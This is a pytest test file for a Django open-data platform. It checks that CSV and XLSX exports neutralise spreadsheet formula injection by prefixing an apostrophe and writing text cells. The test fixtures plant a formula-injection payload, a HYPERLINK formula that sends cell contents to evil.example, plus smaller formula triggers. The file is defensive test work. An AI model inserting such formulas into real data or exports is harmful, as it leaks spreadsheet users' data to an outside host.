"""No export carries a live formula: a record titled ``=HYPERLINK(…)`` (third-party data:
Wikidata, Atlas, IATI) opens as text in CSV (OWASP's leading apostrophe) and in XLSX (a text
cell, no ``<f>`` element), in every CSV or XLSX the platform writes."""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook

from coopdec.catalogue.search import rebuild_index
from coopdec.formats.spreadsheets import csv_row, neutralise

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"Cliquez ici")'


def test_the_owasp_rule() -> None:
    for text in ("=1+1", "+33 1 23", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert neutralise(text) == "'" + text
    for text in ("-12.5", "+3", "-0,5", "1e-3", "Eau potable", "", "2023-01-15", "'déjà"):
        assert neutralise(text) == text  # numbers cannot run; plain text is unchanged
    assert csv_row([1, None, True, "=x", "y"]) == [1, None, True, "'=x", "y"]


@pytest.fixture
def hostile(catalogue: dict[str, Any]) -> dict[str, Any]:
    water = catalogue["water"]
    water.title = HOSTILE
    water.summary = "+33 1 23 45 67 89"
    water.save()
    twinning = water.partnership
    twinning.summary = "@SUM(1+1)"
    twinning.save()
    rebuild_index()
    return catalogue


def _csv(body: bytes, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=delimiter))


def _xlsx_text_cells(body: bytes) -> dict[str, str]:
    """Every cell of the first sheet whose value starts like a formula: value -> data type."""
    book = load_workbook(io.BytesIO(body))
    return {
        str(c.value): c.data_type
        for row in book.worksheets[0].iter_rows()
        for c in row
        if isinstance(c.value, str) and c.value[:1] in "=+-@"
    }


def _no_formula_element(body: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name), name


def test_catalogue_csv_and_xlsx_of_the_anonymous_api(
    client: Client, hostile: dict[str, Any]
) -> None:
    rows = _csv(b"".join(client.get("/api/v1/exports/catalogue.csv").streaming_content))
    cells = {cell for row in rows for cell in row}
    assert "'" + HOSTILE in cells and HOSTILE not in cells
    assert "'+33 1 23 45 67 89" in cells and "'@SUM(1+1)" in cells
    # Nothing else changed: only the three hostile cells carry the apostrophe.
    assert sorted(c for c in cells if c.startswith("'")) == sorted(
        ["'" + HOSTILE, "'+33 1 23 45 67 89", "'@SUM(1+1)"]
    )

    response = client.get("/api/v1/exports/catalogue.xlsx")
    body = b"".join(response.streaming_content) if response.streaming else response.content
    assert _xlsx_text_cells(body)[HOSTILE] == "s"
    _no_formula_element(body)


def test_apd_csv_and_xlsx(client: Client, hostile: dict[str, Any]) -> None:
    url = "/api/v1/exports/apd.{fmt}?authority=commune:35238&year=2025"
    response = client.get(url.format(fmt="csv"))
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    projects = [row[3] for row in _csv(body)[1:]]
    assert "'" + HOSTILE in projects
    response = client.get(url.format(fmt="xlsx"))
    body = b"".join(response.streaming_content) if response.streaming else response.content
    assert _xlsx_text_cells(body)[HOSTILE] == "s"
    _no_formula_element(body)


def test_the_result_download_of_the_catalogue_page(client: Client, hostile: dict[str, Any]) -> None:
    response = client.get("/catalogue/export.csv?type=project&country=SN")
    # The page's download is for French spreadsheets: semicolons (docs/opendata.md).
    titles = [row[2] for row in _csv(b"".join(response.streaming_content), ";")[1:]]
    assert "'" + HOSTILE in titles
    assert all(not t.startswith("=") for t in titles)
